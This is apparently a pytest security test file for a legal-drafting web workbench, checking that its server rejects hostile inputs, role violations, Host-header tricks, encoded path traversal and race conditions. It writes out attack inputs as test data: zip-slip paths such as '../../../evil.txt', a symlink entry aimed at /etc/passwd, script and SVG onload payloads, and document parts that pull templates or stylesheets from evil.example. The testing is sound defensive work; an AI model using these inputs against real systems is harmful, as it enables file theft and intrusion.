"""Later attacks on the workbench: words that wait in the store, hidden parts of files, roles, methods, spellings, the wire.

python tests/workbench/serve/test_serve_attacks_later.py      # the counts, as docs/security.md has them
"""

import io
import itertools
import re
import sys
import tempfile
import threading
import zipfile
from pathlib import Path
from urllib.parse import quote, unquote

import pytest

pytest.importorskip("starlette")

sys.path.append(str(Path(__file__).parents[2] / "law"))
from serve_client import DRAFTER, HOST, OWN, READER, SIGNER, Client, opened
from test_serve_attacks import FORMULAS, HTML, LINES, TEMPLATES, TEXT, _calm, _no_formula
from word_files import RELS, paragraph, word, zipped

from tether.charter.library import text_of
from tether.documents.handling import release
from tether.workbench.serve.app import ROUTES
from tether.workbench.serve.claims_work import claims
from tether.workbench.serve.people import Person

WORDS = (*HTML, *TEMPLATES, *FORMULAS, *LINES)
COUNTRY = "lebanon"


def words_of_claims(bench):
    """Hostile words kept as values and reasons of claims, then read as pages, as YAML and in the log."""
    row = next(r for r in claims({"country": COUNTRY, "edits": {}, "internal": True})["claims"] if r["tag"] == "J")
    address, client, tries = f"/evidence/{COUNTRY}/{row['id']}", Client(bench, DRAFTER), 0
    asked = {"country": COUNTRY, "edits": {}, "internal": True, "id": row["id"]}
    entry = bench.workers.ask("claim", asked, seconds=60)["entry"]
    for bad in WORDS[1::2]:
        seen = len(bench.edits.history(COUNTRY, row["id"]))
        fields = {**entry, "note": bad, "reason": f"{bad}\n    - of: injected", "seen": str(seen)}
        _calm(client.post(address, fields), bad)
        for page in (address, f"/evidence?country={COUNTRY}&find={quote(bad)}", "/log"):
            _calm(client.get(page), bad)
        told = client.get(f"/evidence/{COUNTRY}.yaml")
        assert told.status == 200, bad
        assert not re.search(r"^\s*- of: injected", told.text, re.MULTILINE), bad
        assert len(told.text.splitlines()) < 100_000
        tries += 5
    release()
    return tries


def words_of_bills(bench):
    """Hostile words in a bill's articles, title and file's name: on its page, as a charter, in letter, report and form."""
    tries = 0
    for bad in WORDS[::2]:
        bill = f"Article 1\nThe guard {bad} shall have 300 members.\n\nArticle 2\nThe {bad} Minister appoints its commander.\n"
        client = Client(bench, SIGNER)
        made = client.post("/charters", {"text": bill, "title": f"{bad} bill"})
        _calm(made, bad)
        at = made.headers.get("location", "")
        tries += 1
        if not at.endswith("/bill"):
            continue
        numbers = re.findall(r'name="take" value="(\w+)">', client.get(at).text)
        taken = [("take", n) for n in (*numbers, bad)]
        _calm(client.post(at, [("country", bad), ("kind", "guard"), *taken]), bad)
        _calm(client.post(at, [("country", bad), ("kind", "guard"), *taken[:-1]]), bad)
        for part in ("text", "findings", "letter", "files/letter.html", "files/report.html", "files/charter.yaml"):
            answer = client.get(at.replace("/bill", f"/{part}"))
            assert answer.status < 500, (bad, part)
            assert "<img src=x" not in answer.text or part.endswith("yaml"), (bad, part)
            assert "set-cookie" not in answer.headers
        form = client.get(at.replace("/bill", "/files/form.xlsx"))
        if form.data.startswith(b"PK"):
            _no_formula(form.data)
        tries += 9
    assert bench.space.ledger.fault() == ""
    return tries


LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LINKS = RELS.replace("</Relationships>", f'<Relationship Id="rId9" Type="{LINK}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')  # fmt: skip
SLIPS = (
    "../../../evil.txt",
    "/etc/evil",
    "..\\..\\evil",
    "word/../../evil",
    "C:\\evil",
    "word/media/..%2fevil/../../x",
)


def hidden_parts_of_files(bench):
    """Zip slips, links, twins, foreign endings: refused in a sentence, or given back without what leads out."""
    client, tries = Client(bench), 0
    bill = [paragraph("Article 1"), paragraph("The guard shall have 300 members.")]
    for slip in SLIPS:
        made = client.send("/charters", {}, {"file": ("slip.docx", word(*bill, parts={slip: "x"}))})
        _calm(made, slip)
        assert made.status == 422, slip  # a copy of it would carry the name to whoever unpacks it
        made = client.send(
            "/plans", {"target": "libya-2015/p10-individuals"}, {"roster": ("r.xlsx", zipped({slip: "x"}))}
        )
        _calm(made, slip)
        tries += 2
    both = [
        ("a.docx", b"%PDF-1.4\n" + word(*bill)), ("a.pdf", word(*bill)), ("a.html", b"GIF89a/*" + word(*bill)),
        ("a.yaml", b"PK\x03\x04"), ("a.docx.html", b"<p>Article 1</p><script>alert(1)</script><p>A rule.</p>"),
        ("a.xml", b"<?xml version='1.0'?><?xml-stylesheet href='http://evil.example/x.xsl'?><akomaNtoso/>"),
        ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>"), ("a.docx", word(*bill, parts={"_rels/.rels": LINKS})),
        ("a.docx", word(*bill, parts={"word/vbaProject.bin": "x", "word/embeddings/a.bin": "MZ"})),
        ("a.odt", word(*bill)), ("a.txt", b"Article 1\n" + b"\x00" * 500), ("a.docx\x00.yaml", TEXT.encode()),
    ]  # fmt: skip
    for name, data in both:
        made = client.send("/charters", {}, {"file": (name, data)})
        _calm(made, name)
        if made.status == 303:
            _calm(client.get(made.headers["location"]), name)
            _calm(client.get(re.sub("/[a-z]+$", "/letter", made.headers["location"])), name)
        tries += 3
    inner = zipped({"a.docx": word(*bill)})
    for _ in range(20):
        inner = zipped({"a.zip": inner})
    _calm(client.send("/charters", {}, {"file": ("deep.docx", inner)}), "deep")
    link = io.BytesIO(word(*bill))
    with zipfile.ZipFile(link, "a") as packed:
        entry = zipfile.ZipInfo("word/media/image1.png")
        entry.external_attr = 0o120777 << 16
        packed.writestr(entry, "/etc/passwd")
    made = client.send("/charters", {}, {"file": ("link.docx", link.getvalue())})
    _calm(made, "link")
    if made.status == 303:
        assert b"root:x:" not in client.get(made.headers["location"].replace("/bill", "/files/commented.docx")).data
    assert not (bench.space.root.parent / "evil.txt").exists()
    assert not list(bench.space.root.rglob("*evil*"))
    return tries + 2


NEEDS = {"/gate/sign": "signer", "/people": "signer"}
ANYBODY = ("/leave", "/language", "/link", "/login")
FILLED = {"name": "guard", "number": "1", "job": "none", "file": "none", "country": "libya", "claim": "none",
          "what": "charter", "ending": "yaml"}  # fmt: skip


def roles_at_every_address(bench):
    """Each role at each address: what a role may not, it gets 403 for, and nothing is done."""
    tries = 0
    for route, (role, person) in itertools.product(
        ROUTES, (("reader", READER), ("drafter", DRAFTER), ("signer", SIGNER))
    ):
        path = re.sub(r"{(\w+)}", lambda m: FILLED[m[1]], route.path)
        need = NEEDS.get(route.path, "reader" if route.path in ANYBODY or route.path.endswith("/marks") else "drafter")
        refused = ("reader", "drafter", "signer").index(role) < ("reader", "drafter", "signer").index(need)
        for method in sorted(route.methods & {"GET", "POST"}):
            before = bench.space.ledger.path.read_bytes()
            client = Client(bench, person)
            answer = client.get(path) if method == "GET" else client.post(path, {"kind": "x"})
            if path not in ("/people", "/login"):  # they ask for a password
                _calm(answer, path)
            if method == "POST" and refused:
                assert answer.status == 403, (path, role)
                assert bench.space.ledger.path.read_bytes() == before
            elif method == "POST":
                assert answer.status != 403 or path == "/login", (path, role)
            assert answer.status < 500
            tries += 1
    return tries


def methods_ranges_and_heads(bench):
    """HEAD gives no body and spends nothing, OPTIONS says nothing, a range gets the whole."""
    tries = 0
    for route in (r for r in ROUTES if "GET" in r.methods):
        path = re.sub(r"{(\w+)}", lambda m: FILLED[m[1]], route.path)
        client = Client(bench, DRAFTER)
        head, whole = client.ask("HEAD", path), client.get(path)
        assert head.status == whole.status
        _calm(head, path)
        part = client.get(path, headers=[("range", "bytes=0-9,5-7"), ("if-range", "x")])
        assert part.status == whole.status
        assert len(part.data) == len(whole.data) or path in ("/log", "/charters/guard/files/charter.yaml"), path
        preflight = [("origin", "http://evil.example"), ("access-control-request-method", "POST")]
        options = client.ask("OPTIONS", path, headers=preflight)
        assert options.status == 405
        assert not [h for h in options.headers if h.startswith("access-control")]
        tries += 3
    key = bench.sessions.new_key(Person("owner", "signer"))
    assert "set-cookie" not in Client(bench, None).ask("HEAD", f"/enter?key={key}").headers
    assert Client(bench, None).get(f"/enter?key={key}").status == 303  # a preview of the link has not spent it
    for told in ("\u00b2", "-1", "+5", "5, 5", "0x5", "1e3", " ", "9" * 400):
        headers = [("origin", OWN), ("content-type", "text/plain"), ("content-length", told)]
        assert Client(bench).ask("POST", "/charters", b"hello", headers).status in (400, 413, 422), told
        tries += 1
    return tries + 2


def hosts_and_origins(bench):
    """Names that only look like the server's: a dot, other ports, other ways to write an address, two at once."""
    client, tries = Client(bench), 0
    port = HOST.rpartition(":")[2]
    hosts = [f"127.0.0.1.:{port}", f"localhost.:{port}", f"[::1%25lo]:{port}", f"[0:0:0:0:0:0:0:1]:{port}", f"::1:{port}",
             f"[::ffff:127.0.0.1]:{port}", f"2130706433:{port}", f"0177.0.0.1:{port}", f"127.0.0.1:0{port}", f"127.0.0.1:{port}:80",
             f"user@127.0.0.1:{port}", f"127.0.0.1:{port}/", f"127.0.0.1:{port}#", f"127.0.0.1\t:{port}", f"l\u00f3calhost:{port}",
             f"127.0.0.1:{port}\x00", f"[::1]:{port}.", f"localhost:{port},evil", f"0:{port}", f"localhost:{port}\\@evil"]  # fmt: skip
    for host in hosts:
        answer = client.get("/", host=(host.encode("utf-8").decode("latin-1"),))
        assert answer.status == 421, host
        tries += 1
    for own in (HOST, f"localhost:{port}", f"[::1]:{port}", f"LOCALHOST:{port}"):
        assert client.get("/log", host=(own,)).status == 200
        headers = [("origin", OWN), ("content-type", "application/x-www-form-urlencoded")]
        if own != HOST:  # a page under another of its names is another origin
            assert client.ask("POST", "/charters", b"title=x", headers, host=(own,)).status == 403
        tries += 2
    for site in ("cross-site", "same-site", "CROSS-SITE", "x"):
        for method in ("GET", "HEAD"):
            assert client.ask(method, "/log", headers=[("sec-fetch-site", site)]).status == 403
            tries += 1
    two = [("origin", OWN), ("origin", "null"), ("content-type", "application/x-www-form-urlencoded")]
    assert client.ask("POST", "/charters", b"title=x", two).status == 403
    return tries + 1


SPELT = ("%2e%2e", "%2E%2E%2F", "..%5c", "%5c%5cevil", "%c0%ae%c0%ae", "%252e%252e", "\u2025", "\uff0e\uff0e", "\u2215", "%00",
         "guard%00", "guard%20", "guard%0a", "guard;x", "guard%3f", "guard%23", ".", "%2f%2fevil", "g%75ard%2f..", "GUARD", "~", "nul")  # fmt: skip


def paths_spelt_otherwise(bench):
    """Addresses as a server hands them on, taken apart or not, at every route that has a part in it."""
    client, tries = Client(bench), 0
    routes = [r.path for r in ROUTES if "{" in r.path and "GET" in r.methods]
    for route, spelt in itertools.product(routes, SPELT):
        client = Client(bench) if spelt == SPELT[0] else client
        for said in {spelt, unquote(spelt)}:
            path = re.sub(r"{(\w+)}", lambda m, s=said: s, route).replace("?", "%3f")
            answer = client.get(path)
            _calm(answer, path)
            assert answer.status != 303 or answer.headers["location"].startswith("/"), path
            assert "A guard" not in answer.text, path
            tries += 1
    return tries


def _together(*works):
    failed = []

    def held(work):
        try:
            work()
        except BaseException as error:
            failed.append(error)

    threads = [threading.Thread(target=held, args=(work,)) for work in works]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert failed == []


def races_on_claims_people_and_bills(bench):
    """Many at once on one claim, the people, one bill, one key: one wins or all are kept; nothing fails, the log is whole."""
    rows = [r for r in claims({"country": COUNTRY, "edits": {}, "internal": True})["claims"] if r["tag"] == "J"]
    row, answers = rows[1], []
    asked = {"country": COUNTRY, "edits": bench.edits.latest(COUNTRY), "internal": True, "id": row["id"]}
    entry, address = bench.workers.ask("claim", asked, seconds=60)["entry"], f"/evidence/{COUNTRY}/{row['id']}"

    def edit(n):
        return lambda: answers.append(
            Client(bench, DRAFTER)
            .post(address, {**entry, "note": f"read by {n}", "reason": "a race", "seen": "0"})
            .status
        )

    _together(*map(edit, range(6)))
    assert sorted(answers) == [303, 409, 409, 409, 409, 409]
    key, let_in = bench.sessions.new_key(Person("owner", "signer")), []
    _together(*[lambda: let_in.append(Client(bench, None).get(f"/enter?key={key}").status)] * 8)
    assert sorted(let_in) == [303] + [403] * 7
    bill = {"text": "Article 1\nThe guard shall have 300 members.\n", "title": "raced bill"}
    at = Client(bench).post("/charters", bill).headers["location"]
    taken = [Client(bench).post, at]
    _together(*[lambda c=c: taken.append(Client(bench).post(at, {"country": c, "kind": "guard", "parent": "1"}).status)
                for c in ("iraq", "libya", "syria", "yemen")])  # fmt: skip
    assert taken[2:] == [200] * 4
    said = {bench.space.version(at.split("/")[2], n).text.count("country:") for n in range(1, 6)}
    assert said == {0, 1}  # all four are kept
    fresh = [lambda n=n: bench.people.add(f"P{n}", "reader", "twelve letters and more") for n in range(6)]
    try:
        _together(*fresh, *[lambda: bench.people.names()] * 4)
        assert len(bench.people.names()) == 6
        from tether.workbench.serve.people import read_people

        assert len(read_people(bench.people.path)) == 6
    finally:
        bench.people._known.clear()
        bench.people.path.unlink(missing_ok=True)
    assert bench.space.ledger.fault() == ""
    return 6 + 8 + 4 + 6


KINDS = [words_of_claims, words_of_bills, hidden_parts_of_files, roles_at_every_address, methods_ranges_and_heads,
         hosts_and_origins, paths_spelt_otherwise, races_on_claims_people_and_bills]  # fmt: skip


@pytest.fixture(scope="module")
def bench(tmp_path_factory):
    with opened(tmp_path_factory.mktemp("later")) as made:
        made.space.start("guard", text_of("example-guard-law"), "owner", title="A guard")
        yield made
    release()


@pytest.mark.parametrize("attack", KINDS, ids=lambda attack: attack.__name__)
def test_no_later_attack_opens_a_door(attack, bench):
    assert attack(bench) > 0


def test_a_long_word_leaves_the_log_whole(bench):
    bench.space.ledger.add("owner", "x" * 9_000, "y" * 9_000, file="\x01" * 9_000)
    assert bench.space.ledger.fault() == ""
    assert bench.space.ledger.lines(1)[0]["who"] == "owner"


if __name__ == "__main__":
    with tempfile.TemporaryDirectory() as place, opened(Path(place)) as made:
        made.space.start("guard", text_of("example-guard-law"), "owner", title="A guard")
        for attack in KINDS:
            print(f"{attack.__name__}: {attack(made)}", flush=True)
